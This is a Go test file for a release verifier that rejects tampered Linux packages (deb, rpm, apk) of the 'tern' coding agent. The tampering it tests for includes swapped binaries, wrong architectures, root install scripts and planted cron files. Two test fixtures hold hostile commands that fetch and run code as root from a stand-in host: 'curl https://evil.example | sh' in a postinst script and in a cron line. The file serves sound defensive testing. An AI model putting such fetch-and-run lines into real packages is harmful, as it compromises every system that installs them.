package verify

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/goreleaser/nfpm/v2"
	"github.com/goreleaser/nfpm/v2/apk"
	"github.com/goreleaser/nfpm/v2/deb"
	"github.com/goreleaser/nfpm/v2/files"
	"github.com/goreleaser/nfpm/v2/rpm"

	"github.com/tern-agent/tern/packager/internal/artifact"
	"github.com/tern-agent/tern/packager/internal/config"
	"github.com/tern-agent/tern/packager/internal/layout"
	"github.com/tern-agent/tern/packager/internal/linuxpkg"
	"github.com/tern-agent/tern/packager/internal/manifest"
	"github.com/tern-agent/tern/packager/internal/pack"
	"github.com/tern-agent/tern/packager/internal/pipeline"
	"github.com/tern-agent/tern/packager/internal/pipeline/pipelinetest"
)

// pkgRelease is a release directory holding one linux target's archive and
// the .deb, .rpm and .apk linuxpkg builds from the same staged tree: what
// the packages' payload check reads, without the rest of a release.
type pkgRelease struct {
	c      *checker
	m      *manifest.Manifest
	ctx    *pipeline.Context
	target config.Target
	tree   string
}

// newPkgRelease stages a tree (a binary, bwrap, the licences, a man page
// and a README), archives it and builds its three packages. The apt door is
// shut: the repository has its own checks, and its key is not the point.
func newPkgRelease(t *testing.T) pkgRelease {
	t.Helper()
	ctx := pipelinetest.New(t)
	cfg := ctx.Config
	cfg.Targets = cfg.Targets[:1]
	cfg.NPM.Description = "tern, a coding agent"
	cfg.NPM.License = "Apache-2.0"
	cfg.Files = []config.File{{Src: "docs/tern.1", Dst: "share/man/man1/tern.1"}, {Src: "README.md", Dst: "README.md"}}
	cfg.Doors.Apt = &doorShut
	tg := cfg.Targets[0]

	tree := filepath.Join(t.TempDir(), tg.Name)
	for rel, body := range map[string]string{
		"bin/tern":              "\x7fELF the released binary",
		"libexec/tern/bwrap":    "\x7fELF the released bwrap",
		layout.License:          "Copyright 2026 The tern Authors\nApache-2.0\n",
		layout.Notices:          "# Third-party notices\n",
		"share/man/man1/tern.1": ".TH tern 1\n",
		"README.md":             "# tern\n",
	} {
		mode := os.FileMode(0o644)
		if strings.HasPrefix(rel, "bin/") || strings.HasPrefix(rel, "libexec/") {
			mode = 0o755
		}
		writeTreeFile(t, tree, rel, body, mode)
	}

	version := ctx.Version.String()
	m := &manifest.Manifest{Product: "tern", Version: version, Time: ctx.Version.Time,
		Targets: []manifest.Target{{Name: tg.Name, GOOS: tg.GOOS, GOARCH: tg.GOARCH, Helpers: tg.Helpers}}}
	files, err := pack.Tree(tree)
	if err != nil {
		t.Fatal(err)
	}
	prefix := layout.Prefix(cfg, version, tg)
	members := []pack.File{{Name: prefix + "/", Mode: 0o755}}
	for _, f := range files {
		f.Name = prefix + "/" + f.Name
		members = append(members, f)
	}
	var archive bytes.Buffer
	if err := pack.WriteTarGz(&archive, members, ctx.Version.Time); err != nil {
		t.Fatal(err)
	}
	name := layout.ArchiveName(cfg, version, tg)
	if err := os.WriteFile(filepath.Join(ctx.Release, name), archive.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	m.Artifacts = append(m.Artifacts, manifest.Artifact{Name: name, Kind: artifact.Archive, Target: tg.Name})

	ctx.Artifacts.Add(artifact.Artifact{Name: tg.Name, Path: tree, Kind: artifact.Tree, Target: tg.Name})
	if err := (linuxpkg.Pipe{}).Run(ctx); err != nil {
		t.Fatal(err)
	}
	return pkgRelease{c: &checker{dir: ctx.Release, opts: Options{Config: cfg}}, m: m, ctx: ctx, target: tg, tree: tree}
}

func writeTreeFile(t *testing.T, tree, rel, body string, mode os.FileMode) {
	t.Helper()
	p := filepath.Join(tree, filepath.FromSlash(rel))
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(body), mode); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(p, mode); err != nil {
		t.Fatal(err)
	}
}

// rebuild builds format f again, over the release's own package, from a
// copy of the staged tree with edit applied: a well-formed package, as an
// attacker who can build one would make it.
func (r pkgRelease) rebuild(t *testing.T, f layout.LinuxFormat, edit func(tree string)) string {
	t.Helper()
	arch, _ := layout.LinuxArchFor(r.target)
	return r.rebuildAs(t, f, arch, edit)
}

// rebuildAs is rebuild, with the package built for arch but named as the
// target's own.
func (r pkgRelease) rebuildAs(t *testing.T, f layout.LinuxFormat, builtFor layout.LinuxArch, edit func(tree string)) string {
	t.Helper()
	tree := filepath.Join(t.TempDir(), r.target.Name)
	files, err := pack.Tree(r.tree)
	if err != nil {
		t.Fatal(err)
	}
	for _, file := range files {
		if strings.HasSuffix(file.Name, "/") {
			continue
		}
		body, err := os.ReadFile(file.Src)
		if err != nil {
			t.Fatal(err)
		}
		writeTreeFile(t, tree, file.Name, string(body), os.FileMode(file.Mode))
	}
	edit(tree)
	v, err := layout.LinuxVersionFor(r.m.Version, r.m.Time)
	if err != nil {
		t.Fatal(err)
	}
	arch, _ := layout.LinuxArchFor(r.target)
	name := layout.LinuxPackageName(r.c.opts.Config, f, v, arch)
	var b bytes.Buffer
	if err := linuxpkg.Build(&b, linuxpkg.Package{Config: r.c.opts.Config, Target: r.target, Tree: tree, Format: f,
		Version: v, Arch: builtFor, Time: r.m.Time, Commit: "abc"}); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(r.c.dir, name), b.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	return name
}

func (r pkgRelease) problems() string {
	r.c.problems = nil
	r.c.linuxPackages(r.m)
	return strings.Join(r.c.problems, "\n")
}

// The packages linuxpkg builds from the archive's own tree pass.
func TestLinuxPackagesOfTheArchivesTreePass(t *testing.T) {
	r := newPkgRelease(t)
	if got := r.problems(); got != "" {
		t.Fatalf("the packages of the released tree are refused:\n%s", got)
	}
}

// swappedBinary checks that a package of format f whose binary is not the
// archive's is refused, naming the package, the file, both digests and the
// remedy.
func swappedBinary(t *testing.T, f layout.LinuxFormat) {
	r := newPkgRelease(t)
	evil := "\x7fELF another binary"
	name := r.rebuild(t, f, func(tree string) { writeTreeFile(t, tree, "bin/tern", evil, 0o755) })
	archive := layout.ArchiveName(r.c.opts.Config, r.m.Version, r.target)
	want := name + ": /usr/bin/tern has sha256 " + digest([]byte(evil)) + ", but bin/tern in " + archive +
		" has sha256 " + digest([]byte("\x7fELF the released binary")) +
		": the package does not ship the released binary; build the packages again from the release's own trees (packager release)"
	if got := r.problems(); got != want {
		t.Errorf("got:\n%s\nwant:\n%s", got, want)
	}
}

func TestLinuxPackagesRefuseASwappedBinaryDeb(t *testing.T) { swappedBinary(t, layout.Deb) }
func TestLinuxPackagesRefuseASwappedBinaryRPM(t *testing.T) { swappedBinary(t, layout.RPM) }
func TestLinuxPackagesRefuseASwappedBinaryAPK(t *testing.T) { swappedBinary(t, layout.APK) }

// A helper swapped in one package, and a data file made executable in
// another, are refused too.
func TestLinuxPackagesRefuseASwappedHelperAndAnExecutable(t *testing.T) {
	r := newPkgRelease(t)
	evil := "#!/bin/sh\necho evil\n"
	rpm := r.rebuild(t, layout.RPM, func(tree string) { writeTreeFile(t, tree, "libexec/tern/bwrap", evil, 0o755) })
	apk := r.rebuild(t, layout.APK, func(tree string) { os.Chmod(filepath.Join(tree, "README.md"), 0o755) })
	archive := layout.ArchiveName(r.c.opts.Config, r.m.Version, r.target)
	got := r.problems()
	for _, want := range []string{
		rpm + ": /usr/libexec/tern/bwrap has sha256 " + digest([]byte(evil)) + ", but libexec/tern/bwrap in " + archive + " has sha256 " + digest([]byte("\x7fELF the released bwrap")),
		apk + ": /usr/share/tern/README.md is executable (mode 755), but only the binary and its helpers may be: build the packages again from the release's own trees (packager release)",
	} {
		if !strings.Contains(got, want) {
			t.Errorf("want %q, got:\n%s", want, got)
		}
	}
}

// A package built for another architecture, under the target's name, is
// refused for what it states, in each format.
func TestLinuxPackagesRefuseAnotherArchitecture(t *testing.T) {
	r := newPkgRelease(t)
	arm64, _ := layout.LinuxArchFor(config.Target{GOOS: "linux", GOARCH: "arm64"})
	var names []string
	for _, f := range layout.LinuxFormats {
		names = append(names, r.rebuildAs(t, f, arm64, func(string) {}))
	}
	got := r.problems()
	for i, want := range []string{`states the architecture "arm64", want "amd64"`, `states the architecture "aarch64", want "x86_64"`, `states the architecture "aarch64", want "x86_64"`} {
		if want = names[i] + ": " + want + " (linux-x64, release 1.2.3)"; !strings.Contains(got, want) {
			t.Errorf("want %q, got:\n%s", want, got)
		}
	}
}

// A package that runs a script as root on install (a deb's postinst, an
// rpm's %post, an apk's .post-install), made with nfpm around the released
// files, is refused in each format.
func TestLinuxPackagesRefuseInstallScripts(t *testing.T) {
	r := newPkgRelease(t)
	cfg := r.c.opts.Config
	v, err := layout.LinuxVersionFor(r.m.Version, r.m.Time)
	if err != nil {
		t.Fatal(err)
	}
	arch, _ := layout.LinuxArchFor(r.target)
	script := filepath.Join(t.TempDir(), "postinst")
	if err := os.WriteFile(script, []byte("#!/bin/sh\ncurl https://evil.example | sh\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		f      layout.LinuxFormat
		pkgr   nfpm.Packager
		script string
	}{
		{layout.Deb, deb.Default, "the control member postinst"},
		{layout.RPM, rpm.DefaultRPM, "the scriptlet %post"},
		{layout.APK, apk.Default, "the control member .post-install"},
	} {
		contents, err := linuxpkg.Contents(cfg, r.target, tc.f, r.tree, t.TempDir(), r.m.Time)
		if err != nil {
			t.Fatal(err)
		}
		info := &nfpm.Info{Name: "tern", Arch: arch.For(tc.f), Platform: "linux", VersionSchema: "none", Version: v.Deb,
			Maintainer: "x <x@example.invalid>", Description: "x", MTime: r.m.Time,
			Overridables: nfpm.Overridables{Contents: contents, Scripts: nfpm.Scripts{PostInstall: script}}}
		switch tc.f {
		case layout.RPM:
			info.Version, info.Release = v.RPM, v.RPMRelease
		case layout.APK:
			info.Version, info.Release, _ = strings.Cut(v.APK, "-r")
		}
		var b bytes.Buffer
		if err := tc.pkgr.Package(info, &b); err != nil {
			t.Fatalf("%s: %v", tc.f, err)
		}
		name := layout.LinuxPackageName(cfg, tc.f, v, arch)
		if err := os.WriteFile(filepath.Join(r.c.dir, name), b.Bytes(), 0o644); err != nil {
			t.Fatal(err)
		}
		got := r.problems()
		want := name + ": runs " + tc.script + " as root when installed or removed, which the packages the packager builds never do: " +
			"build the packages again from the release's own trees (packager release)"
		if !strings.Contains(got, want) {
			t.Errorf("want %q, got:\n%s", want, got)
		}
		for _, line := range strings.Split(got, "\n") {
			if strings.HasPrefix(line, name) && line != want {
				t.Errorf("%s: only the script should be refused, not: %s", tc.f, line)
			}
		}
	}
}

// A package that adds a file the tree does not have is refused even when
// the file is not executable: cron runs /etc/cron.d/*, login shells source
// /etc/profile.d/*.sh, sudo reads /etc/sudoers.d/*, all as root and none
// with an exec bit. Made with nfpm around the released files, each format.
func TestLinuxPackagesRefuseAFileTheTreeDoesNotHave(t *testing.T) {
	r := newPkgRelease(t)
	cfg := r.c.opts.Config
	v, err := layout.LinuxVersionFor(r.m.Version, r.m.Time)
	if err != nil {
		t.Fatal(err)
	}
	arch, _ := layout.LinuxArchFor(r.target)
	cron := filepath.Join(t.TempDir(), "cron")
	if err := os.WriteFile(cron, []byte("* * * * * root curl https://evil.example | sh\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		f    layout.LinuxFormat
		pkgr nfpm.Packager
	}{{layout.Deb, deb.Default}, {layout.RPM, rpm.DefaultRPM}, {layout.APK, apk.Default}} {
		contents, err := linuxpkg.Contents(cfg, r.target, tc.f, r.tree, t.TempDir(), r.m.Time)
		if err != nil {
			t.Fatal(err)
		}
		contents = append(contents, &files.Content{Source: cron, Destination: "/etc/cron.d/tern",
			FileInfo: &files.ContentFileInfo{Owner: "root", Group: "root", Mode: 0o644, MTime: r.m.Time}})
		info := &nfpm.Info{Name: "tern", Arch: arch.For(tc.f), Platform: "linux", VersionSchema: "none", Version: v.Deb,
			Maintainer: "x <x@example.invalid>", Description: "x", MTime: r.m.Time,
			Overridables: nfpm.Overridables{Contents: contents}}
		switch tc.f {
		case layout.RPM:
			info.Version, info.Release = v.RPM, v.RPMRelease
		case layout.APK:
			info.Version, info.Release, _ = strings.Cut(v.APK, "-r")
		}
		var b bytes.Buffer
		if err := tc.pkgr.Package(info, &b); err != nil {
			t.Fatalf("%s: %v", tc.f, err)
		}
		name := layout.LinuxPackageName(cfg, tc.f, v, arch)
		if err := os.WriteFile(filepath.Join(r.c.dir, name), b.Bytes(), 0o644); err != nil {
			t.Fatal(err)
		}
		got := r.problems()
		want := name + ": /etc/cron.d/tern is no file of " + layout.ArchiveName(cfg, r.m.Version, r.target) +
			", and the packages install nothing else (a file in /etc/cron.d, /etc/profile.d or /etc/sudoers.d runs as root without an exec bit): " +
			"build the packages again from the release's own trees (packager release)"
		var mine []string
		for _, line := range strings.Split(got, "\n") {
			if strings.HasPrefix(line, name+": ") {
				mine = append(mine, line)
			}
		}
		if strings.Join(mine, "\n") != want {
			t.Errorf("%s:\n got %s\nwant %s", tc.f, strings.Join(mine, "\n"), want)
		}
	}
}
